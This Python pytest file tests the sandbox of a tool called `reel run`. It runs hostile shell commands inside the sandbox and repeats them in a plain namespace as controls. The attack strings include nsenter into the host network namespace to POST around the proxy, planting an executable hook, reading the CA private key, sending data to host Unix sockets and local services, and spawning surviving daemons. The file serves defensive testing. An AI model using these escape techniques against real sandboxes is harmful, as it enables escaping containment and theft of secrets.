"""`reel run` as a trust boundary: the attacks a hostile command made, as its own shell commands, as
root and as an unprivileged user (created here), against the real sandbox. Each protection has a
negative control: the same attack against a plain `unshare -n` (`-rn`) child started by the test itself
(the sandbox as it was), which succeeds, so each assertion could fail."""

from __future__ import annotations

import json
import os
import pwd
import secrets
import shlex
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from target import Target

import reelstore

USER = "reelsbx"
ROOT = Path(reelstore.__file__).resolve().parent.parent
SITE = next(p for p in sys.path if p.endswith("site-packages"))


def _user() -> pwd.struct_passwd:
    try:
        return pwd.getpwnam(USER)
    except KeyError:
        subprocess.run(["useradd", "--system", "--no-create-home", "--shell", "/bin/sh", USER], check=True)
        return pwd.getpwnam(USER)


def _python_for(uid: int) -> str:
    """A Python of this version the user may run (the venv's may live under root's home)."""
    want = f"python{sys.version_info[0]}.{sys.version_info[1]}"
    for exe in (sys.executable, shutil.which(want) or "", f"/usr/bin/{want}"):
        if (
            exe
            and subprocess.run(
                [
                    "setpriv",
                    f"--reuid={uid}",
                    f"--regid={uid}",
                    "--clear-groups",
                    "sh",
                    "-c",
                    f"{shlex.quote(exe)} -c ''",
                ],
                capture_output=True,
            ).returncode
            == 0
        ):
            return exe
    raise AssertionError(f"no {want} the user {USER} can run; install one (see .ci/run)")


class Box:
    """A store in a directory of its own, and `reel` run in it as root or as the unprivileged user."""

    def __init__(self, home: Path, as_user: bool) -> None:
        self.home = home
        self.uid = _user().pw_uid if as_user else 0
        py = _python_for(self.uid) if as_user else sys.executable
        self.bin = home / "bin"
        self.bin.mkdir()
        boot = (
            f"import sys; sys.path[:0] = [{str(ROOT)!r}, {SITE!r}]; sys.argv[0] = 'reel'; "
            "from reelstore.cli.main import main; sys.exit(main())"
        )
        (self.bin / "reel").write_text(f'#!/bin/sh\nexec {shlex.quote(py)} -c {shlex.quote(boot)} "$@"\n')
        (self.bin / "reel").chmod(0o755)
        self.store = home / "store"
        self.store.mkdir()
        if as_user:
            for p in (home, self.bin, self.store):
                os.chown(p, self.uid, self.uid)
        self.env = {"PATH": f"{self.bin}:/usr/local/bin:/usr/bin:/bin", "HOME": str(home), "LANG": "C.UTF-8"}
        self.reel("init", check=True)

    def argv(self, argv: list[str]) -> list[str]:
        if not self.uid:
            return argv
        return ["setpriv", f"--reuid={self.uid}", f"--regid={self.uid}", "--clear-groups", *argv]

    def reel(self, *args: str, check: bool = False) -> subprocess.CompletedProcess[bytes]:
        proc = subprocess.run(
            self.argv([str(self.bin / "reel"), *args]), cwd=self.store, env=self.env, capture_output=True, timeout=60
        )
        assert not check or proc.returncode == 0, proc.stderr.decode()
        return proc

    def run(self, script: str, *opts: str) -> dict:
        """`reel --json run --abort OPTS -- sh -c SCRIPT`: the summary."""
        proc = self.reel("--json", "run", "--abort", *opts, "--", "sh", "-c", script)
        assert proc.stdout, proc.stderr.decode()
        doc: dict = json.loads(proc.stdout)
        doc["stderr"] = proc.stderr.decode()
        return doc

    def plain(self, script: str) -> subprocess.CompletedProcess[bytes]:
        """The same script as the sandbox ran it before: `unshare -n` as root, `unshare -rn` as a user (no
        mount or PID namespace, and no user namespace for root): the control."""
        ns = ["-r", "-n"] if self.uid else ["-n"]
        return subprocess.run(
            self.argv(["unshare", *ns, "sh", "-c", script]),
            cwd=self.store,
            env=self.env,
            capture_output=True,
            timeout=60,
        )


@pytest.fixture(params=["root", "user"])
def box(request: pytest.FixtureRequest) -> Iterator[Box]:
    home = Path(tempfile.mkdtemp(prefix="reel-escape-"))
    home.chmod(0o755)
    try:
        yield Box(home, request.param == "user")
    finally:
        shutil.rmtree(home, ignore_errors=True)


@pytest.fixture
def target(box: Box) -> Iterator[Target]:
    with Target(box.home / "ledger.jsonl") as t:
        yield t


def test_nsenter_into_reels_network_namespace_is_refused(box: Box, target: Target) -> None:
    """The attack: enter the network namespace of a process outside (here the test's own, which reel
    shares) and POST around the proxy."""
    attack = f"nsenter --net=/proc/{os.getpid()}/ns/net curl -sS --noproxy '*' -d x {target.url}/blind/x"
    doc = box.run(f"{attack}; echo nsenter=$? >&2")
    assert "nsenter=0" not in doc["stderr"] and target.count("/blind/x") == 0, doc
    if not box.uid:  # control: a root child without a user namespace gets through
        assert box.plain(attack).returncode == 0 and target.count("/blind/x") == 1


def test_a_setsid_child_does_not_outlive_the_run(box: Box) -> None:
    mark = f"{300 + secrets.randbelow(1000)}.{secrets.randbelow(10**6)}"
    attack = f"setsid sleep {mark} >/dev/null 2>&1 </dev/null &"
    box.run(attack)
    assert _settles(mark, alive=False)
    box.plain(attack)
    try:
        assert _settles(mark, alive=True)  # the control: a plain namespace's daemon lives on
    finally:
        subprocess.run(["pkill", "-x", "-f", f"sleep {mark}"], check=False)


def _settles(mark: str, *, alive: bool) -> bool:
    """Whether `sleep MARK` is (or is not) running within 10 s: a backgrounded child takes a moment to
    exec, and a killed one a moment to be reaped, on a loaded machine."""
    for _ in range(100):
        if _alive(mark) == alive:
            return True
        time.sleep(0.1)
    return False


def _alive(mark: str) -> bool:
    return subprocess.run(["pgrep", "-x", "-f", f"sleep {mark}"], capture_output=True).returncode == 0


def test_a_planted_hook_is_not_written_and_never_runs(box: Box) -> None:
    marker = box.home / "hook-ran"
    hooks = box.store / ".reel" / "hooks"
    attack = f"printf '#!/bin/sh\\ntouch {marker}\\n' > {hooks}/post-abort && chmod +x {hooks}/post-abort"
    doc = box.run(attack)
    assert doc["status"] != 0 and str(marker) not in _text(hooks / "post-abort")
    box.run("true")
    assert not marker.exists()
    assert box.plain(attack).returncode == 0  # control: the store is writable from a plain namespace
    box.run("true")
    assert marker.exists()


def _text(path: Path) -> str:
    return path.read_text() if path.exists() else ""


def test_the_command_cannot_commit_its_own_view(box: Box, target: Target) -> None:
    attack = (
        f"curl -sS -d refund=1 {target.url}/blind/refund >/dev/null && "
        f"reel -C {box.store} commit $REEL_VIEW; echo commit=$? >&2"
    )
    doc = box.run(attack, "--allow", target.url.removeprefix("http://"))
    assert "commit=0" not in doc["stderr"] and len(doc["effects"]) == 1 and doc["decision"] == "abort", doc
    box.reel("recover", check=True)
    assert target.count("/blind/refund") == 0
    box.reel("fork", "victim", check=True)  # control: from a plain namespace, reel commits any live view
    assert box.plain(f"reel -C {box.store} commit victim").returncode == 0


def test_the_store_secrets_and_ca_key_are_unreadable(box: Box) -> None:
    box.run("true")  # the first run makes the CA
    key = box.store / ".reel" / "ca" / "ca-key.pem"
    assert key.exists()
    attack = f"cat {key} {box.store}/.reel/config | grep -q . && exit 42; ls {box.store}/.reel && exit 43; exit 0"
    assert box.run(attack)["status"] == 0
    assert box.plain(attack).returncode == 42


def test_host_unix_sockets_are_unreachable(box: Box) -> None:
    """A filesystem socket and an abstract one, listening outside: the command connects and writes."""
    path = box.home / "host.sock"
    abstract = f"\0reel-escape-{secrets.token_hex(4)}"
    got: list[bytes] = []
    servers = []
    for addr in (str(path), abstract):
        s = socket.socket(socket.AF_UNIX)
        s.bind(addr)
        s.listen(8)
        servers.append(s)
        threading.Thread(target=_take, args=(s, got), daemon=True).start()
    path.chmod(0o777)
    py = (
        "import socket, sys\nfor a in sys.argv[1:]:\n    a = a.replace('@', chr(0))\n    try:\n"
        "        s = socket.socket(socket.AF_UNIX); s.connect(a); s.sendall(b'secret'); s.close()\n"
        "    except OSError as e:\n        print(a[:1] == chr(0), e, file=sys.stderr)\n"
    )
    (box.home / "attack.py").write_text(py)
    attack = f"python3 {box.home}/attack.py {path} @{abstract[1:]}"
    box.run(attack)
    time.sleep(0.2)
    assert got == []
    box.plain(attack)  # control: the filesystem socket answers a plain namespace; the abstract one does not
    deadline = time.monotonic() + 5
    while not got and time.monotonic() < deadline:
        time.sleep(0.05)
    assert got == [b"secret"]
    subprocess.run(box.argv(["python3", str(box.home / "attack.py"), f"@{abstract[1:]}"]), env=box.env, timeout=30)
    deadline = time.monotonic() + 5  # and the abstract one answers a process outside any namespace: it is live
    while len(got) < 2 and time.monotonic() < deadline:
        time.sleep(0.05)
    assert got == [b"secret", b"secret"]
    for s in servers:
        s.close()


def _take(server: socket.socket, got: list[bytes]) -> None:
    while True:
        try:
            conn, _ = server.accept()
        except OSError:
            return
        got.append(conn.recv(100))
        conn.close()


def _own_ipv4() -> str:
    from reelstore.intercept.http_proxy import _own_addresses

    mine = sorted(a for a in _own_addresses() if "." in a and not a.startswith("127."))
    assert mine, "this machine has no non-loopback IPv4 address to test with"
    return mine[0]


@pytest.mark.parametrize("spelling", ["[::ffff:127.0.0.1]", "2130706433", "own"])
def test_local_services_by_any_spelling_need_allow(box: Box, spelling: str) -> None:
    """The proxy judges the address a host resolves to: a GET with a body to a local service not named
    with --allow reaches nothing, however the host is spelled (or if it is this machine's own address)."""
    host = _own_ipv4() if spelling == "own" else spelling
    got: list[bytes] = []
    server = socket.socket(socket.AF_INET)
    server.bind((host if spelling == "own" else "127.0.0.1", 0))
    server.listen(8)
    threading.Thread(target=_take, args=(server, got), daemon=True).start()
    port = server.getsockname()[1]
    attack = f"curl -sS -X GET --data-binary leak http://{host}:{port}/ >&2"
    doc = box.run(attack)
    assert got == [] and doc["refused"] and "--allow" in doc["refused"][0]["message"], doc
    # control: the same request, the service named with --allow, reaches it
    box.run(
        f"curl -sS -m 5 -X GET --data-binary leak http://{host}:{port}/ >&2",
        "--allow",
        f"{host if spelling == 'own' else '127.0.0.1'}:{port}",
    )
    assert got and got[0].startswith(b"GET / "), got
    server.close()


NODE_FETCH = (
    'fetch("https://api.example.test/v1/refund", {method: "POST", body: "r=1"})'
    '.then(r => r.text()).then(t => console.error("NODE", t)).catch(e => console.error("NODEFAIL", e))'
)
PY_RAW = (
    "import http.client; c = http.client.HTTPConnection('shop.example.test', 80, timeout=10); "
    "c.request('POST', '/order', body=b'o=1'); print('PY', c.getresponse().status)"
)


def test_clients_that_ignore_the_proxy_by_name_are_captured(box: Box) -> None:
    """Node's fetch (no proxy support) and a raw http.client, to host names: the namespace's DNS stub
    and listeners hand them to the proxy, TLS by SNI, so their POSTs are pending effects."""
    script = f"node -e {shlex.quote(NODE_FETCH)}; python3 -c {shlex.quote(PY_RAW)}"
    doc = box.run(script)
    assert sorted(e["url"] for e in doc["effects"]) == [
        "http://shop.example.test/order",
        "https://api.example.test/v1/refund",
    ], doc
    assert '"reel": "pending"' in doc["stderr"] and "NODEFAIL" not in doc["stderr"], doc["stderr"]
    control = box.plain(script)  # control: in a bare namespace they reach nothing, and nothing is captured
    assert b"NODEFAIL" in control.stdout + control.stderr and b"PY 202" not in control.stdout


def test_the_command_holds_no_capability_and_makes_no_namespace(box: Box) -> None:
    """No capability (none effective, none to gain: empty bounding set, no_new_privs), a seccomp filter,
    and `unshare` (a fresh user namespace would give capabilities back over copies of the mounts) refused."""
    script = (
        "grep -E '^(CapEff|CapBnd|NoNewPrivs|Seccomp):' /proc/self/status >&2; unshare -r true; echo unshare=$? >&2"
    )
    doc = box.run(script)
    out = doc["stderr"]
    for line in (
        "CapEff:\t0000000000000000",
        "CapBnd:\t0000000000000000",
        "NoNewPrivs:\t1",
        "Seccomp:\t2",
        "unshare=1",
    ):
        assert line in out, out
    control = box.plain(script).stderr.decode()  # control: the sandbox as it was gave the child all of these
    assert "CapBnd:\t0000000000000000" not in control and "unshare=0" in control, control


def test_killing_reel_kills_everything_the_command_started(box: Box) -> None:
    """reel itself SIGKILLed mid-run (no cleanup code runs): the namespaces and every process in them
    die with it, a setsid daemon included."""
    mark = f"{300 + secrets.randbelow(1000)}.{secrets.randbelow(10**6)}"
    proc = subprocess.Popen(
        box.argv([str(box.bin / "reel"), "run", "--abort", "--", "sh", "-c", f"setsid sleep {mark} & sleep {mark}"]),
        cwd=box.store,
        env=box.env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        deadline = time.monotonic() + 20
        while not _alive(mark) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert _alive(mark)
    finally:
        proc.kill()
        proc.wait()
    deadline = time.monotonic() + 5
    while _alive(mark) and time.monotonic() < deadline:
        time.sleep(0.05)
    try:
        assert not _alive(mark)
    finally:
        subprocess.run(["pkill", "-x", "-f", f"sleep {mark}"], check=False)
